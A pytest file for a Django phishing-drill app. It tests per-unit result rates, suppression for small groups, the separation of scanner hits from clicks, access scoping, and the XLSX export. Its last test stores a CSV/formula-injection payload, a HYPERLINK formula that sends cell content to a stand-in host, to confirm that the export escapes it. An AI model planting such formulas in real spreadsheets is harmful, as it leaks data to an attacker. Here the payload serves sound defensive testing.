"""Results (issue 17, point 6): rates per unit next to difficulty, small groups show no rates,
scanner hits apart from clicks, scope by unit, repeat clickers by name only to those who may
see them, and the XLSX export of the same figures."""

from __future__ import annotations

import io
from datetime import timedelta

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from drills.models import Campaign, Event, EventKind, EventSource, Recipient
from drills.results import UnitRow, result_rows, rollup
from drills.services import approve_campaign, prepare_campaign, submit_campaign
from orgs.models import Role, User
from orgs.testing import sign_in_verified

from .campaign_world import ALLOWED_DOMAIN, DrillWorld, add_person, build_drill_world


@pytest.fixture
def dw(world, settings) -> DrillWorld:
    settings.DRILLS_ALLOWED_MAIL_DOMAINS = [ALLOWED_DOMAIN]
    drill_world = build_drill_world(world)
    for i in range(5):  # D1-C1 has 3 people of the world plus these: a group of 8
        add_person(world, f"can_bo_c1_{i}", Role.STAFF, "D1-C1")
    return drill_world


def _campaign(dw: DrillWorld, name: str) -> Campaign:
    operator = dw.person("drill_operator")
    plan = dw.plan(targets=("D1",), name=name)
    campaign = submit_campaign(
        operator=operator, campaign=prepare_campaign(operator=operator, plan=plan)
    )
    return approve_campaign(manager=dw.person("manager_d1"), campaign=campaign)


def _send(campaign: Campaign, people: list[User]) -> dict[str, Recipient]:
    sent = timezone.now() - timedelta(hours=2)
    return {
        p.username: Recipient.objects.create(
            campaign=campaign, person=p, email=p.email, due_at=sent, sent_at=sent
        )
        for p in people
    }


def _event(r: Recipient, kind: str, *, minutes: int, source: str = EventSource.PERSON) -> None:
    assert r.sent_at is not None
    Event.objects.create(
        recipient=r, kind=kind, source=source, at=r.sent_at + timedelta(minutes=minutes)
    )


def _sheet_rows(content: bytes, title: str = "Theo đợt và đơn vị") -> list[tuple[object, ...]]:
    sheet = load_workbook(io.BytesIO(content))[title]
    return list(sheet.iter_rows(values_only=True))


def repeat_clicker_people(user: User) -> list[User]:
    return rollup(user).people


def unit_summaries(user: User) -> dict[str, UnitRow]:
    """The roll-up rows of every unit the user sees that had a drill mail, by code."""
    rows: dict[str, UnitRow] = {}
    for group in rollup(user).groups:
        for row in group.rows:
            if not row.own and row.mails:
                rows[row.unit.code] = row
    return rows


def _c1_people() -> list[User]:
    return list(User.objects.filter(home_unit__code="D1-C1", email__endswith=ALLOWED_DOMAIN))


def test_rates_per_unit_with_difficulty_and_no_rates_for_a_small_group(dw):
    campaign = _campaign(dw, "Đợt một")
    c1 = _send(campaign, _c1_people())
    _send(campaign, [dw.person("staff_d1_c2")])  # D1-C2: a group of one
    names = sorted(c1)
    _event(c1[names[0]], EventKind.REPORTED, minutes=10)
    _event(c1[names[1]], EventKind.REPORTED, minutes=30)
    _event(c1[names[2]], EventKind.CLICKED, minutes=5)
    _event(c1[names[2]], EventKind.SUBMITTED, minutes=6)
    # A mail scanner's hit is kept apart: it is no one's click.
    _event(c1[names[3]], EventKind.CLICKED, minutes=0, source=EventSource.SCANNER)
    rows = {r.unit.code: r for r in result_rows(dw.person("drill_operator"))}
    c1_row = rows["D1-C1"]
    n = len(c1)
    assert n >= 5 and c1_row.recipients == n
    assert c1_row.difficulty == dw.template.difficulty
    assert c1_row.report_rate == round(100 * 2 / n, 1)
    assert c1_row.median_report_minutes == 20.0
    assert c1_row.click_rate == round(100 * 1 / n, 1)
    assert c1_row.submit_rate == round(100 * 1 / n, 1)
    assert c1_row.scanner_hits == 1
    small = rows["D1-C2"]
    assert small.recipients == 1
    assert (small.report_rate, small.click_rate, small.median_report_minutes) == (None, None, None)


def test_a_manager_sees_only_the_units_they_manage(dw):
    campaign = _campaign(dw, "Đợt một")
    _send(campaign, _c1_people())
    assert {r.unit.code for r in result_rows(dw.person("manager_d1"))} == {"D1-C1"}
    assert result_rows(dw.person("manager_d2")) == []


def test_repeat_clickers_are_named_only_to_operators_and_managers_of_their_unit(dw):
    people = _c1_people()
    target = dw.person("can_bo_c1_0")
    for name, clicks in (("Đợt một", True), ("Đợt hai", False), ("Đợt ba", True)):
        recipients = _send(_campaign(dw, name), people)
        if clicks:
            _event(recipients[target.username], EventKind.CLICKED, minutes=3)
    assert repeat_clicker_people(dw.person("manager_d1_c1")) == [target]
    assert repeat_clicker_people(dw.person("drill_operator")) == [target]
    assert repeat_clicker_people(dw.person("manager_d2")) == []
    summary = unit_summaries(dw.person("manager_d1"))
    assert summary["D1-C1"].repeat_clickers == 1


def test_one_click_is_not_a_repeat_and_a_small_unit_hides_its_count(dw):
    campaign = _campaign(dw, "Đợt một")
    recipients = _send(campaign, [*_c1_people(), dw.person("staff_d1_c2")])
    _event(recipients["staff_d1_c2"], EventKind.CLICKED, minutes=1)
    _event(recipients["can_bo_c1_1"], EventKind.CLICKED, minutes=1)
    assert repeat_clicker_people(dw.person("drill_operator")) == []
    d1 = dw.unit("D1").pk
    summary = {
        r.unit.code: r for r in rollup(dw.person("drill_operator"), unit_id=d1).groups[0].rows
    }
    assert summary["D1-C2"].repeat_clickers is None
    assert summary["D1-C1"].repeat_clickers == 0


def test_results_page_and_xlsx_show_the_same_figures(client, dw):
    campaign = _campaign(dw, "Đợt một")
    c1 = _send(campaign, _c1_people())
    _send(campaign, [dw.person("staff_d1_c2")])
    _event(next(iter(c1.values())), EventKind.REPORTED, minutes=12)
    sign_in_verified(client, dw.person("manager_d1"))
    page = client.get(reverse("drills:results")).content.decode()
    assert 'data-testid="small-group"' in page
    assert "Xã Một Một" in page
    response = client.get(reverse("drills:results-xlsx"))
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    rows = _sheet_rows(response.content)
    assert rows[0][3] == "Độ khó (1–5)"
    by_unit = {row[4]: row for row in rows[1:]}
    n = len(c1)
    assert by_unit["Xã Một Một"][5] == n
    assert by_unit["Xã Một Một"][6] == round(100 / n, 1)
    assert by_unit["Xã Một Một"][7] == 12.0
    assert by_unit["Xã Một Hai"][5] == 1
    assert by_unit["Xã Một Hai"][6] is None and by_unit["Xã Một Hai"][8] is None


def test_results_of_another_district_are_not_in_the_export(client, dw):
    campaign = _campaign(dw, "Đợt một")
    _send(campaign, _c1_people())
    sign_in_verified(client, dw.person("manager_d2"))
    response = client.get(reverse("drills:results-xlsx"))
    for title in ("Theo đợt và đơn vị", "Theo thời gian"):
        assert len(_sheet_rows(response.content, title)) == 1  # the header only
    assert "Huyện Một" not in str(_sheet_rows(response.content, "Theo đơn vị"))


def test_naming_repeat_clickers_costs_the_same_queries_for_one_or_many(dw):
    """Whether `user` may see each repeat clicker is asked once for all, not per person."""
    people = _c1_people()
    sent = [_send(_campaign(dw, name), people) for name in ("Đợt một", "Đợt hai")]
    operator = dw.person("drill_operator")

    def clicks(username: str) -> None:
        for recipients in sent:
            _event(recipients[username], EventKind.CLICKED, minutes=3)

    clicks(people[0].username)
    with CaptureQueriesContext(connection) as one:
        assert len(repeat_clicker_people(operator)) == 1
    for person in people[1:4]:
        clicks(person.username)
    with CaptureQueriesContext(connection) as four:
        assert len(repeat_clicker_people(operator)) == 4
    assert len(four.captured_queries) == len(one.captured_queries)


def test_a_campaign_name_typed_as_a_formula_stays_text_in_the_export(client, dw):
    name = '=HYPERLINK("http://lua-dao.test/?q="&A1,"Bấm")'
    campaign = _campaign(dw, "Đợt một")
    Campaign.objects.filter(pk=campaign.pk).update(name=name)
    _send(campaign, _c1_people())
    sign_in_verified(client, dw.person("drill_operator"))
    book = load_workbook(io.BytesIO(client.get(reverse("drills:results-xlsx")).content))
    details = book.worksheets[-1]  # the rows per campaign and unit
    assert details.cell(row=2, column=2).value == "'" + name
    assert details.cell(row=2, column=2).data_type == "s"
